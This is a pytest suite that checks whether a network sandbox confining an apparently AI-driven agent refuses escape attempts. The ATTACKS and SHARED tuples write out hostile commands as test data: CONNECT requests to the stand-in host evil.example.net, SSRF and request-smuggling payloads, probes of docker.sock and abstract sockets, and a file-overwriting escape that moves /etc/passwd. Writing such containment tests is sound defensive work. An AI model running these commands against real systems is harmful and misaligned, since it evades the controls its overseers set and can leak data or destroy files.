"""What a hostile model does with what the user opened: a host, a port, a socket, the network. Nothing beside it opens.

All commands of a level go through one run; a command gets through when its result holds THROUGH, or a secret.
"""

import json
import socket
import threading
from contextlib import ExitStack

import pytest

from tests.attacks.conftest import listen
from tests.attacks.test_commands import BOTH, CONNECT, PLAN, RUN, Attack, call_attacks, find_through, python
from tests.effort import take_each

HOST = "registry.example.org"
TUNNEL = """
import os, socket
def ask(target, more=b'', method='CONNECT'):
    '''Print THROUGH where the proxy lets something through.'''
    with socket.create_connection(('127.0.0.1', 30128), 10) as peer:
        head = f'{method} {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n'.encode('latin-1')
        peer.sendall(head + more); peer.settimeout(10)
        try: said = peer.recv(4096)
        except OSError: said = b''
        print(target, said[:12])
        if b' 200' in said[:12] or b'served' in said: print('THRO' + 'UGH')
"""


def ask(*targets: str) -> str:
    return python(TUNNEL + "\n".join(f"ask({target!r})" for target in targets))


ATTACKS = (
    Attack(
        name="a host that was not named",
        stands_for="exfiltration",
        command=ask("evil.example.net:443", "example.org:443", f"x{HOST}:443", f"{HOST}.evil.net:443"),
    ),
    Attack(
        name="a name that is cut elsewhere",
        stands_for="srt 2.0.24 to 2.1.89: NUL in a host",
        command=ask(f"evil.net\0.{HOST}:443", f"evil.net#{HOST}:443", f"{HOST}@evil.net:443", f"evil.net/{HOST}:443"),
    ),
    Attack(
        name="an address in the place of a name",
        stands_for="SSRF (CWE-918)",
        command=ask("127.0.0.1:@TCP@", "127.0.0.1:443", "[::1]:443", "2130706433:443", "0x7f.1:443", "169.254.1.1:443"),
    ),
    Attack(
        name="this machine by its names",
        stands_for="SSRF (CWE-918)",
        command=ask("localhost:443", "localhost.localdomain:443", "$(hostname):443", "ip6-localhost:443"),
    ),
    Attack(
        name="another port of the host that was named",
        stands_for="exfiltration",
        command=ask(f"{HOST}:22", f"{HOST}:80", f"{HOST}:0443", f"{HOST}:"),
    ),
    Attack(
        name="plain HTTP through the proxy",
        stands_for="SSRF (CWE-918)",
        command=python(TUNNEL + "ask('http://127.0.0.1:@TCP@/', b'', 'GET'); ask('http://169.254.1.1/', b'', 'PUT')"),
    ),
    Attack(
        name="a second request behind a refused one",
        stands_for="request smuggling (CWE-444)",
        command=python(
            TUNNEL + "ask('evil.example.net:443', b'CONNECT 127.0.0.1:@TCP@ HTTP/1.1\\r\\n\\r\\n')\n"
            f"ask('{HOST}:443\\r\\nX: y', b'GET http://127.0.0.1:@TCP@/ HTTP/1.1\\r\\n\\r\\n')"
        ),
    ),
    Attack(
        name="the proxy's own socket",
        stands_for="confused deputy (CWE-441)",
        command=python(
            "import socket\nwith socket.socket(socket.AF_UNIX) as peer:\n    peer.connect('/run/relay/proxy')\n"
            "    peer.sendall(b'CONNECT evil.example.net:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n"
            "    print('THRO' + 'UGH' if b' 200' in peer.recv(99) else 'refused')"
        ),
    ),
    Attack(
        name="a port beside the one that was opened",
        stands_for="server-side request forgery",
        command=python(CONNECT + "reach(socket.AF_INET, ('127.0.0.1', @TCP@)); reach(socket.AF_INET6, ('::1', @TCP@))"),
    ),
    Attack(
        name="without the proxy",
        stands_for="programs that ignore variables (srt)",
        command="unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy; "
        + python(CONNECT + "reach(socket.AF_INET, ('1.1.1.1', 443)); reach(socket.AF_INET6, ('2606:4700::1111', 443))\n"
        "try: socket.getaddrinfo('example.com', 443); print('THRO' + 'UGH')\nexcept OSError as error: print(error)"),
    ),
    Attack(
        name="a socket beside the one that was opened",
        stands_for="docker.sock",
        command=python(CONNECT + "reach(socket.AF_UNIX, '@AGENT@'); reach(socket.AF_UNIX, '@OUT@/agent')"),
    ),
    Attack(
        name="an abstract socket",
        stands_for="Codex: app-server Unix sockets",
        command=python(CONNECT + "reach(socket.AF_UNIX, chr(0) + '@ABSTRACT@')"),
    ),
    Attack(
        name="another program in the place of relay's",
        stands_for="configuration-based escape (Cymulate 2026)",
        command="for f in /run/relay/inside.py /run/relay/proxy; do (echo x > $f) 2>/dev/null && echo THRO''UGH; "
        "rm -f $f; mv -f /etc/passwd $f; done 2>/dev/null; mv /run/relay /run/r2 2>/dev/null && echo THRO''UGH; "
        "mkdir -p /run/relay/x 2>/dev/null && echo THRO''UGH; true",
    ),
)  # fmt: skip
"""With a host, a port and a socket opened."""

SHARED = (
    Attack(
        name="an abstract socket in the host's network",
        stands_for="Codex: app-server Unix sockets",
        command=python(
            CONNECT + "import os\nfor kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):\n"
            "    with socket.socket(socket.AF_UNIX, kind) as peer:\n"
            "        try: peer.connect(chr(0) + '@ABSTRACT@'); print('THRO' + 'UGH')\n"
            "        except OSError as error: print(error)\n"
            "if not os.fork(): os.setsid(); reach(socket.AF_UNIX, chr(0) + '@ABSTRACT@'); os._exit(0)\nos.wait()"
        ),
    ),
    Attack(
        name="a path of a socket in the host's network",
        stands_for="docker.sock",
        command=python(
            CONNECT + "reach(socket.AF_UNIX, '@AGENT@'); reach(socket.AF_UNIX, '@DOCKER@'); "
            "reach(socket.AF_UNIX, '@OUT@/agent')"
        ),
    ),
)
"""With the whole network."""


WORDS = {RUN: (RUN,), PLAN: (PLAN, "feature", "--force")}


def serve(server: socket.socket) -> None:
    while True:
        try:
            peer, _ = server.accept()
        except OSError:
            return
        with peer:
            peer.sendall(b"served")


@pytest.mark.nightly
@pytest.mark.parametrize("level", BOTH)
def test_what_was_opened_opens_nothing_else(arena, leaks, level):
    """The opened port and socket answer, what they are is said at the start, refused hosts are in result and log."""
    place = arena.base / "opened.sock"
    with socket.create_server(("127.0.0.1", 0)) as port, ExitStack() as stack:
        opened = listen(stack, socket.AF_UNIX, str(place))
        place.chmod(0o777)
        for server in (port, opened):
            threading.Thread(target=serve, args=(server,), daemon=True).start()
        number = port.getsockname()[1]
        wanted = python(
            f"import socket\nfor family, where in ((2, ('127.0.0.1', {number})), (1, {str(place)!r})):\n"
            "    with socket.socket(family) as peer: peer.connect(where); print(peer.recv(9))"
        )
        attacks = (*ATTACKS, Attack(name="wanted", stands_for="", command=wanted))
        environ = {"RELAY_NETWORK": json.dumps({"hosts": [HOST], "localhost": [number], "sockets": [str(place)]})}
        before = arena.state(whole=level == PLAN)
        played, texts = call_attacks(
            arena,
            attacks,
            *((RUN, "--json") if level == RUN else (PLAN, "feature", "--force", "--json")),
            environ=environ,
            warm=True,
        )

    assert find_through(arena, attacks, texts, before, leaks, whole=level == PLAN)[0] == []
    assert texts[-1].count("served") == 2, texts[-1]
    first = played.got[0].text
    assert "[evil.example.net was refused: `network = { hosts = [...] }` does not name it]" in first
    said = played.out.decode()
    for what in (f"{HOST} by HTTPS", f"port {number}", f"the socket {place}"):
        assert f"commands reach {what}" in said
    asked = [event for event in map(json.loads, said.splitlines()) if "host" in event]
    assert {"evil.example.net", "example.org"} <= {event["host"] for event in asked if event["refused"]}
    assert all(event["refused"] for event in asked)


@pytest.mark.parametrize("level", take_each(2, BOTH))
def test_the_hosts_network_opens_no_socket_of_the_host(arena, leaks, level):
    attacks = (
        *SHARED,
        Attack(name="wanted", stands_for="", command=python(CONNECT + "reach(socket.AF_INET, ('127.0.0.1', @TCP@))")),
    )

    words = (RUN,) if level == RUN else (PLAN, "feature", "--force")

    played, texts = call_attacks(arena, attacks, *words, environ={"RELAY_NETWORK": "true"}, warm=True)

    assert [leak for text in texts[:-1] for leak in leaks if leak in text] == []
    assert "THROUGH" in texts[-1]
    assert b"commands reach this machine's whole network" in played.out
